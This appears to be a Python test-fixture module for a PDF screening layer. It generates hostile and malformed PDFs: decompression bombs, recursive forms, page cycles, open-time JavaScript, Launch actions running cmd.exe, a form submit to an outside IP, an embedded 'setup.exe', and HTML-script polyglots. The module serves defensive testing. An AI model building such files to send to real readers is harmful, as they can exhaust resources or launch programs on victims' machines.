"""PDF that are bombs, circles, halves, or do something when opened."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Sequence
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.screening.samples import package, pdf

Maker = Callable[[], bytes]

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>"


def raw_pdf(objects: Sequence[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of places."""
    data = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, held in enumerate(objects, start=1):
        places.append(len(data))
        data += f"{number} 0 obj\n".encode() + held + b"\nendobj\n"
    start = len(data)
    data += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    data += f"trailer<</Size {len(places) + 1}/Root {root} 0 R".encode() + trailer
    return data + f">>\nstartxref\n{start}\n%%EOF\n".encode()


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(content), content)


def _page_with(content: bytes, *objects: bytes, page: bytes = _PAGE) -> bytes:
    return raw_pdf([_CATALOG, _PAGES, page, content, *objects])


def _deflated(size: int) -> bytes:
    return stream(zlib.compress(b" " * size, 9), b"/Filter/FlateDecode")


def _twice_deflated(size: int) -> bytes:
    packed = zlib.compress(zlib.compress(b" " * size, 9), 9)
    return stream(packed, b"/Filter[/FlateDecode/FlateDecode]")


def _picture(width: int, height: int) -> bytes:
    shown = _PAGE.replace(b"<<>>", b"<</XObject<</I 5 0 R>>>>")
    picture = stream(
        zlib.compress(bytes(1000)),
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
        b"/BitsPerComponent 8/Filter/FlateDecode" % (width, height),
    )
    return _page_with(stream(b"q 500 0 0 500 0 0 cm /I Do Q"), picture, page=shown)


def _forms(levels: int, width: int) -> bytes:
    """Forms that draw forms: width to the power of levels drawings on one page."""
    page = _PAGE.replace(b"<<>>", b"<</XObject<</F 5 0 R>>>>")
    forms = []
    for level in range(levels):
        deeper = b"/Resources<</XObject<</F %d 0 R>>>>" % (6 + level) if level < levels - 1 else b""
        drawn = b"/F Do " * width if level < levels - 1 else b"0 0 m 9 9 l S " * 1000
        forms.append(stream(drawn, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + deeper))
    return _page_with(stream(b"/F Do"), *forms, page=page)


def _form_in_itself() -> bytes:
    page = _PAGE.replace(b"<<>>", b"<</XObject<</F 5 0 R>>>>")
    form = stream(
        b"/F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    )
    return _page_with(stream(b"/F Do"), form, page=page)


def _locked(user: str, owner: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


def changed(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """A clean PDF with one thing done to it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(out, static_id=True)
    return out.getvalue()


def _opens(action: Dictionary) -> Maker:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return lambda: changed(change)


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\0")


def _link(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def _forms_in_xml(document: pikepdf.Pdf) -> None:
    xfa = document.make_stream(b"<xdp><script>app.alert(1)</script></xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _cut(share: float) -> bytes:
    return pdf()[: int(len(pdf()) * share)]


def _page_circle() -> bytes:
    return raw_pdf([_CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def _deep_pages() -> bytes:
    middle = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, 3000)]
    return raw_pdf([_CATALOG, *middle, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


REFUSED: dict[str, Maker] = {
    "PDF 需要口令": partial(_locked, "secret", "owner"),
    "PDF 前面有其他内容": lambda: b"\nGIF89a\n" + pdf(),
    "PDF 前面有网页": lambda: b"<html><script>alert(1)</script>\n" + pdf(),
    "PDF 后面接压缩包": lambda: pdf() + package("docx"),
    "PDF 后面接网页": lambda: pdf() + b"<html><script>alert(1)</script></html>",
    "PDF 流是炸弹": lambda: _page_with(_deflated(200_000_000)),
    "PDF 流两次压缩": lambda: _page_with(_twice_deflated(300_000_000)),
    "PDF 里有很多炸弹": lambda: _page_with(stream(b""), *[_deflated(12_000_000)] * 40),
    "PDF 页数过多": lambda: raw_pdf(
        [_CATALOG, b"<</Type/Pages/Kids[%s]/Count 1001>>" % (b"3 0 R " * 1001), _PAGE, stream(b"")]
    ),
    "PDF 页面成环": _page_circle,
    "PDF 图片过大": partial(_picture, 60_000, 60_000),
    "PDF 图形层层展开": partial(_forms, 10, 10),
    "PDF 只有文件头": lambda: b"%PDF-1.7\n",
    "PDF 文件头后是随机内容": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "PDF 没有页面": lambda: raw_pdf([_CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]),
    "PDF 截在 20%": partial(_cut, 0.2),
    "PDF 数组嵌套过深": lambda: raw_pdf(
        [b"<</Type/Catalog/Pages 2 0 R/X %s%s>>" % (b"[" * 100_000, b"]" * 100_000), _PAGES, _PAGE]
    ),
}

# Accepted, and what they do or hide must be seen in this layer; "" where there is nothing.
ACCEPTED: dict[str, tuple[Maker, str]] = {
    "PDF 打开时运行脚本": (
        _opens(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), "script",
    ),
    "PDF 打开时运行程序": (_opens(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "link"),
    "PDF 打开时提交表单": (
        _opens(Dictionary(S=Name.SubmitForm, F=String("http://198.51.100.7/"))), "link",
    ),
    "PDF 链接运行程序": (partial(changed, _link), "link"),
    "PDF 附有程序": (partial(changed, _attach), "attachment"),
    "PDF 带 XFA 表单": (partial(changed, _forms_in_xml), "form_field"),
    "PDF 只有所有者口令": (partial(_locked, "", "owner"), "visible"),
    "PDF 图形画自己": (_form_in_itself, ""),
}  # fmt: skip

# Halves and wrong tables: a library may mend them; either verdict is right, a stray error is not.
EITHER: dict[str, Maker] = {
    "PDF 页面树很深": _deep_pages,
    "PDF 表指向错处": lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
    "PDF 上一版指向自己": lambda: raw_pdf(
        [_CATALOG, _PAGES, _PAGE, stream(b"")], trailer=b"/Prev 15"
    ),
    "PDF 长度写错": lambda: _page_with(b"<</Length 99999>>stream\nBT ET\nendstream"),
    "PDF 长度是自己": lambda: _page_with(b"<</Length 4 0 R>>stream\nBT ET\nendstream"),
    "PDF 正文不是指令": lambda: _page_with(stream(bytes(range(256)) * 100)),
    "PDF 矩阵过大": lambda: _page_with(stream(b"1e38 0 0 1e38 1e38 1e38 cm 0 0 9 9 re f")),
    "PDF 页面边框过大": lambda: _page_with(
        stream(b""), page=_PAGE.replace(b"595 842", b"1e30 1e30")
    ),
    "PDF 页面边框为零": lambda: _page_with(stream(b""), page=_PAGE.replace(b"595 842", b"0 0")),
    **{f"PDF 截在 {share:.0%}": partial(_cut, share) for share in (0.5, 0.8, 0.9, 0.97)},
}
